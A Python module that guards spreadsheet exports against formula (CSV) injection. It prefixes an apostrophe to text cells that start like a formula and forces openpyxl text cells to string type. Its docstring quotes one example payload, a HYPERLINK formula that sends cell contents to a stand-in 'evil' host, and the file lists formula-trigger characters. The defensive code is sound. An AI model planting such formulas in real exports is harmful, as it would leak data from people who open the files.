"""The cells of every spreadsheet we hand out (CSV and XLSX): no text a person typed can run as a formula.

A display name like =HYPERLINK("http://evil/?"&A1,"x") would otherwise become a live formula in Excel or
WPS when staff open the weekly report or the desk's export. Every export writes its rows through here.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

# what makes Excel, LibreOffice or WPS read a cell as a formula (OWASP, "CSV Injection")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """A cell as exported: text starting like a formula gets a leading ' (OWASP's advice); numbers stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row made inert."""
    return [inert(v) for v in values]


class CsvWriter:
    """csv.writer whose every row is made inert first, so no export can forget to."""

    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, its cells made inert."""
        self._writer.writerow(inert_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write each row, its cells made inert."""
        for row in rows:
            self.writerow(row)


def append_row(sheet, values: Iterable[Any]) -> None:
    """Add a row of inert cells to an openpyxl sheet, each text cell stored as a string (never a formula or error)."""
    sheet.append(inert_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl would type '#N/A' and the like as error cells
